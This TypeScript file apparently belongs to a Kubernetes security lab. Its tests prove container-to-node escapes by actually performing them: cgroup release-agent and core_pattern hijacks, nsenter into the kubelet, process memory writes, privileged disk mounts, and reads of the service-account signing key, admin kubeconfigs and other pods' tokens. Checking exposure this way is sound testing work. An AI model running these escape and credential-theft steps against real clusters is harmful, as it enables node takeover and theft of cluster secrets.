/** Escapes from a container to its node, each really made: what ran there, or what was read or written. */
import { execFileSync, spawn } from "node:child_process";
import { existsSync, readFileSync, readlinkSync, rmSync } from "node:fs";
import { nodeKey, podKey, type Lab, type Proof, type Ran } from "./proof.ts";

const escape = (
  edge: string,
  by: string,
  attempt?: (lab: Lab, run: (script: string) => Promise<Ran>) => Promise<boolean>,
): Proof => ({
  edge,
  from: podKey(edge),
  to: nodeKey,
  by,
  ...(attempt === undefined ? {} : { attempt: (lab) => attempt(lab, (script) => lab.inPod(edge, script)) }),
});

/** The mount namespace of the node's own programs, as these tests are one. */
const ofTheNode = (): string => readlinkSync("/proc/self/ns/mnt");

/**
 * A program that the kernel calls writes here; the node knows the container's disk by another path. The file is there
 * before: what was once looked for in vain stays away for the container.
 */
const helper = [
  ": >/told",
  "up=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/mounts | head -n 1)",
  "printf '#!/bin/sh\\nreadlink /proc/self/ns/mnt >%s/told\\n' \"$up\" >/helper && chmod 755 /helper",
].join("; ");

/** The kernel calls it in its own time. */
const wait = "left=50; while [ ! -s /told ] && [ $left -gt 0 ]; do sleep 0.1; left=$((left - 1)); done";

/** Control groups of version 2 call no program of one's own. */
const hasFirstGroups = existsSync("/sys/fs/cgroup/freezer");

export const escapes: readonly Proof[] = [
  hasFirstGroups
    ? escape("cgroup-release-agent", "the kernel ran a release agent on the node", async (_, run) => {
        const { out } =
          await run(`${helper}; mkdir -p /tmp/c && mount -t cgroup -o freezer cgroup /tmp/c || exit 1
      mkdir -p /tmp/c/plimsoll-edge; echo 1 >/tmp/c/plimsoll-edge/notify_on_release
      old=$(cat /tmp/c/release_agent); echo "$up/helper" >/tmp/c/release_agent
      sh -c 'echo $$ >/tmp/c/plimsoll-edge/cgroup.procs'; ${wait}
      echo "$old" >/tmp/c/release_agent; rmdir /tmp/c/plimsoll-edge; umount /tmp/c; cat /told`);
        return out.trim() === ofTheNode();
      })
    : escape("cgroup-release-agent", "not done: this node has no control groups of version 1"),
  escape("core-pattern", "the kernel ran the named program on the node for a crash", async (_, run) => {
    const { out } = await run(`${helper}; pattern=/host/sys/kernel/core_pattern; old=$(cat $pattern)
      echo "|$up/helper" >$pattern || exit 1
      sh -c 'kill -SEGV $$'; ${wait}; echo "$old" >$pattern; cat /told`);
    return out.trim() === ofTheNode();
  }),
  escape("host-file-handles", "the node's host name was read by the handle of its root", async (_, run) => {
    const { code, out } = await run("act handles etc/hostname");
    return code === 0 && out === readFileSync("/etc/hostname", "utf8");
  }),
  escape("host-file-write", "a program lay in the node's /opt", async (_, run) => {
    await run("echo '#!/bin/sh' >/host/plimsoll-edge");
    try {
      return readFileSync("/opt/plimsoll-edge", "utf8") === "#!/bin/sh\n";
    } catch {
      return false;
    } finally {
      rmSync("/opt/plimsoll-edge", { force: true });
    }
  }),
  escape("host-home-read", "a kubeconfig that was left there was read", async ({ state }, run) => {
    const { out } = await run("cat /host/kubeconfig");
    return out === readFileSync(`${state}/limited.kubeconfig`, "utf8");
  }),
  escape("host-keys-read", "the key of the accounts' tokens was read", async ({ state }, run) => {
    const { out } = await run("cat /host/sa.key");
    return out === readFileSync(`${state}/pki/sa.key`, "utf8");
  }),
  escape("host-network-loopback", "etcd's loopback answered", async (_, run) => {
    const { out } = await run("printf 'GET /health HTTP/1.0\\r\\n\\r\\n' | nc -w 3 127.0.0.1 2381");
    return out.includes('"health":');
  }),
  escape("host-pid-nsenter", "nsenter ran in the mount namespace of the kubelet", async ({ state }, run) => {
    // Not that of process 1: where the lab is itself a guest, nobody may enter it.
    const [kubelet = ""] = readFileSync(`${state}/pids/kubelet`, "utf8").split(/\s/);
    const { out } = await run(`nsenter -t ${kubelet} -m -- readlink /proc/self/ns/mnt`);
    return out.trim() === ofTheNode();
  }),
  escape("host-process-environment", "a word of a process of the node was read", async ({ actor }, run) => {
    const child = spawn("setpriv", ["--bounding-set=-all", "--inh-caps=-all", actor, "target"], {
      env: { PATH: process.env["PATH"], PLIMSOLL_EDGE: "known-to-the-node" },
      stdio: ["ignore", "pipe", "inherit"],
    });
    const line = await linesOf(child.stdout)(0);
    const { out } = await run(`tr '\\0' '\\n' </proc/${line.split(" ")[0]}/environ`);
    child.kill("SIGKILL");
    return out.includes("PLIMSOLL_EDGE=known-to-the-node");
  }),
  escape(
    "host-process-injection",
    "the memory of a process of the node was written",
    async ({ actor }, run) => {
      const child = spawn(actor, ["target"], { stdio: ["ignore", "pipe", "inherit"] });
      const said = linesOf(child.stdout);
      const line = await said(0);
      const { code } = await run(`act write ${line}`);
      const word = code === 0 ? await said(1) : "";
      child.kill("SIGKILL");
      return word === "yours";
    },
  ),
  escape("host-root-read", "the administrator's kubeconfig was read", async ({ state }, run) => {
    const { out } = await run(`cat /host${state}/admin.kubeconfig`);
    return out === readFileSync(`${state}/admin.kubeconfig`, "utf8");
  }),
  escape("kernel-event-helper", "a setting of the kernel was written through /sys", async (_, run) => {
    const { code } = await run("f=/host/kernel/rcu_expedited; v=$(cat $f) && echo $v >$f");
    return code === 0;
  }),
  escape("kernel-module-load", "not done: the lab's kernel takes no modules"),
  escape(
    "kernel-tracing",
    "a map was made in the kernel",
    async (_, run) => (await run("act map")).code === 0,
  ),
  escape(
    "kubelet-directory",
    "the token of another pod was read, and the API server took it",
    async (lab, run) => {
      const { out } = await run(
        "for f in /host/*/volumes/kubernetes.io~projected/*/token; do cat $f; break; done",
      );
      return out !== "" && (await accountOf(lab, out)).startsWith("system:serviceaccount:");
    },
  ),
  escape(
    "log-symlink",
    "the kubelet served a file of the node by a link among its logs",
    async (lab, run) => {
      const { code } = await run("ln -sf /etc/hostname /host/plimsoll-edge");
      if (code !== 0) return false;
      const log = "/api/v1/nodes/plimsoll-node/proxy/logs/plimsoll-edge";
      const { out } = await lab.onNode("kubectl", "get", "--raw", log);
      await run("rm /host/plimsoll-edge");
      return out === readFileSync("/etc/hostname", "utf8");
    },
  ),
  escape("node-devices", "not done: the device control group keeps it out, as the edge's doubt says"),
  escape("privileged-mount", "the node's disk was mounted and read", async (_, run) => {
    const told = execFileSync("findmnt", ["-no", "SOURCE,FSTYPE", "/"], { encoding: "utf8" });
    const [disk, type] = told.trim().split(/\s+/);
    const { out } = await run(
      `mkdir -p /tmp/d && mount -t ${type} ${disk} /tmp/d && cat /tmp/d/etc/hostname; umount /tmp/d`,
    );
    return out === readFileSync("/etc/hostname", "utf8");
  }),
  escape("raw-input-output", "not done: the lab's kernel has neither port access nor /dev/mem"),
  escape(
    "runtime-socket",
    "the runtime answered in gRPC's words",
    async (_, run) => (await run("act greet /host")).code === 0,
  ),
  escape("runtime-storage", "a file lay in the runtime's storage", async ({ state }, run) => {
    await run("echo changed >/host/plimsoll-edge");
    try {
      return readFileSync(`${state}/containerd/root/plimsoll-edge`, "utf8") === "changed\n";
    } catch {
      return false;
    } finally {
      rmSync(`${state}/containerd/root/plimsoll-edge`, { force: true });
    }
  }),
];

/** Whom the API server takes the bearer of a token for; empty where it takes him for nobody. */
export async function accountOf(lab: Lab, token: string): Promise<string> {
  const { status, text } = await lab.withToken(
    token,
    "POST",
    "/apis/authentication.k8s.io/v1/selfsubjectreviews",
    { apiVersion: "authentication.k8s.io/v1", kind: "SelfSubjectReview" },
  );
  if (status !== 201) return "";
  const { userInfo } = (JSON.parse(text) as { status: { userInfo: { username: string } } }).status;
  return userInfo.username;
}

/** The lines that a program prints, by number; empty where that one does not come. */
function linesOf(stream: NodeJS.ReadableStream): (at: number) => Promise<string> {
  let text = "";
  stream.on("data", (chunk: Buffer) => (text += chunk.toString()));
  return async (at) => {
    for (let left = 100; left > 0; left -= 1) {
      const lines = text.split("\n");
      if (lines.length > at + 1) return lines[at]!;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    return "";
  };
}
